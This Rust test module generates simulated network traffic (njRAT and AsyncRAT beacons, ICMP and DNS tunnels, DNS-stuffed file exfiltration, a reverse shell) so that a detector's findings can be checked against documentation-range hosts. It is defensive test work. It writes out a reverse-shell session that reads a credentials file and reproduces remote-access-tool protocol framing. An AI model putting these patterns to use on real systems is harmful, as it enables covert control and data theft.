//! Remote access and its beats.

use super::{Case, VICTIM, finds};
use crate::net::{Net, noise};
use crate::tls;
use crate::web::browsing;

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "njrat",
            about: "njRAT: a hello with its separators, keep-alives and window titles on one connection.",
            expect: finds("203.0.113.70", Some("njRAT"), &["c2"], "high"),
            wire: njrat,
        },
        Case {
            name: "asyncrat-tls",
            about: "AsyncRAT: TLS without a name, the builder's certificate, a record each 13.5 s.",
            expect: finds("203.0.113.71", Some("AsyncRAT"), &["c2"], "high"),
            wire: asyncrat,
        },
        Case {
            name: "beat-in-one-flow",
            about: "An unknown agent inside one connection on an odd port: 44 high-entropy bytes each 20 s, the same prefix both ways, then a push of 180 KB.",
            expect: finds("203.0.113.72", None, &["beacon"], "medium"),
            wire: one_flow,
        },
        Case {
            name: "dead-server",
            about: "A control server that is gone: the same 594 bytes on a new connection each 15 s, never answered.",
            expect: finds("203.0.113.73", None, &["beacon"], "medium"),
            wire: dead_server,
        },
        Case {
            name: "silent-server",
            about: "A control server that never answers: connection attempts each 30 s, twenty times.",
            expect: Vec::new(),
            wire: silent_server,
        },
        Case {
            name: "icmp-tunnel",
            about: "A tunnel in echo messages: whole IP packets go up and other ones come down.",
            expect: finds("203.0.113.75", None, &["tunnel"], "medium"),
            wire: icmp_tunnel,
        },
        Case {
            name: "dns-tunnel",
            about: "A tunnel: unique long TXT names below one domain, through the resolver.",
            expect: finds("tunnel.example", None, &["tunnel"], "medium"),
            wire: dns_tunnel,
        },
        Case {
            name: "stuffed-questions",
            about: "A file in pieces of 900 bytes, each behind a question for an ordinary name, to a server of its own.",
            expect: finds("203.0.113.76", None, &["tunnel", "exfiltration"], "medium"),
            wire: stuffed_questions,
        },
        Case {
            name: "shell-without-terminal",
            about: "A shell of a Linux host that calls out: what it says without a terminal, then orders and their answers.",
            expect: finds("203.0.113.77", None, &["c2"], "medium"),
            wire: shell_without_terminal,
        },
    ]
}

fn njrat(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.70:5552");
    let framed = |text: &str| format!("{}\0{text}", text.len()).into_bytes();
    net.up(&mut tcp, &framed("ll|'|'|RVhBTVBMRV8wQTFCMkMzRA==|'|'|EXAMPLE-PC|'|'|erika|'|'|26-03-02|'|'||'|'|Win 10 ProSP0 x64|'|'|No|'|'|0.7d|'|'|..|'|'|TGV0dGVy|'|'|"));
    net.wait_ms(400);
    net.up(&mut tcp, &framed("inf|'|'|RVhBTVBMRQ0KMjAzLjAuMTEzLjcwOjU1NTI="));
    for beat in 0..24 {
        net.wait_ms(7_000);
        net.down(&mut tcp, b"0\0");
        net.up(&mut tcp, b"0\0");
        if beat % 5 == 0 {
            net.up(&mut tcp, &framed("act|'|'|QnJvd3NlciAtIGV4YW1wbGU="));
        }
    }
    net.close(tcp);
}

fn asyncrat(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "control.example", "203.0.113.71");
    let mut tcp = net.tcp(VICTIM, "203.0.113.71:6606");
    let own = tls::Cert {
        subject: &[("CN", "AsyncRAT Server")],
        issuer: &[("CN", "AsyncRAT Server")],
        from: "250101000000Z",
        until: "491231235959Z",
        names: &[],
    };
    tls::open(net, &mut tcp, &tls::SYSTEM, None, Some(&own));
    tls::data(net, &mut tcp, true, 420);
    for _ in 0..20 {
        net.wait_ms(13_500);
        tls::data(net, &mut tcp, true, 45);
        tls::data(net, &mut tcp, false, 45);
    }
    net.close(tcp);
}

fn one_flow(net: &mut Net) {
    browsing(net, VICTIM);
    let mut tcp = net.tcp(VICTIM, "203.0.113.72:4782");
    let framed = |seed: u64, length: usize| {
        [&[0x1d, 0x9b, 0x77, 0xe2, 0x05, 0xc1, 0x34, 0x8a][..], &noise(seed, length)].concat()
    };
    net.up(&mut tcp, &framed(1, 506));
    net.down(&mut tcp, &framed(2, 20));
    for beat in 0..18 {
        net.wait_ms(20_000);
        net.down(&mut tcp, &framed(100 + beat, 12));
        net.up(&mut tcp, &framed(200 + beat, 36));
        if beat == 9 {
            net.up(&mut tcp, &framed(300, 180_000));
        }
    }
    net.close(tcp);
}

fn dead_server(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "gone.example", "203.0.113.73");
    for _ in 0..16 {
        let mut tcp = net.tcp(VICTIM, "203.0.113.73:2404");
        net.up(&mut tcp, &noise(594, 594));
        net.reset(tcp);
        net.wait_ms(14_900);
    }
}

fn dns_tunnel(net: &mut Net) {
    browsing(net, VICTIM);
    for n in 0..260_u64 {
        let hex: String = noise(n, 45).iter().map(|byte| format!("{byte:02x}")).collect();
        let name = format!("{}.{}.tunnel.example", &hex[..60], &hex[60..]);
        let answer = noise(n + 9000, 60);
        let text = [&[60][..], &answer].concat();
        net.dns(VICTIM, &name, 16, 0, &[&text]);
        net.wait_ms(380);
    }
}

fn stuffed_questions(net: &mut Net) {
    browsing(net, VICTIM);
    for n in 0..24_u16 {
        let (from, to) = (format!("{VICTIM}:{}", net.port()), "203.0.113.76:53");
        let question = |flags: [u8; 2], counts: [u8; 4]| {
            let name = b"\x03www\x04shop\x07example\0\0\x1c\0\x01";
            [&n.to_be_bytes()[..], &flags, &counts, &[0; 4], name].concat()
        };
        let asked = [question([1, 0], [0, 1, 0, 0]), noise(u64::from(n) + 1, 900)].concat();
        let (from, to) = (from.parse().expect("an address"), to.parse().expect("an address"));
        net.udp(from, to, &asked);
        net.wait_ms(30);
        net.udp(to, from, &question([0x81, 0x83], [0, 1, 0, 0]));
        net.wait_ms(970);
    }
}

fn shell_without_terminal(net: &mut Net) {
    let mut tcp = net.tcp(VICTIM, "203.0.113.77:4242");
    net.up(&mut tcp, b"/bin/sh: 0: can't access tty; job control turned off\n$ ");
    for (order, answer) in [
        ("id\n", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n$ "),
        ("ls /srv\n", "accounts.example\nbackup.example\n$ "),
        ("cat /srv/accounts.example\n", "erika@shop.example:invented\n$ "),
    ] {
        net.wait_ms(6_000);
        net.down(&mut tcp, order.as_bytes());
        net.wait_ms(20);
        net.up(&mut tcp, answer.as_bytes());
    }
    net.close(tcp);
}

fn silent_server(net: &mut Net) {
    browsing(net, VICTIM);
    for _ in 0..20 {
        net.attempt(VICTIM, "203.0.113.74:8080", false);
        net.wait_ms(30_000);
    }
}

fn icmp_tunnel(net: &mut Net) {
    browsing(net, VICTIM);
    let packet = |seed: u64, length: usize| {
        [&[0x45, 0, 0, 84, 0, 1, 0x40, 0, 64, 6][..], &noise(seed, length)].concat()
    };
    for n in 0..120_u16 {
        let size = 60 + usize::from(n) * 37 % 900;
        net.icmp(VICTIM, "203.0.113.75", 8, 77, n, &packet(u64::from(n), size));
        net.wait_ms(30);
        net.icmp("203.0.113.75", VICTIM, 0, 77, n, &packet(u64::from(n) + 500, 1000 - size));
        net.wait_ms(240);
    }
}
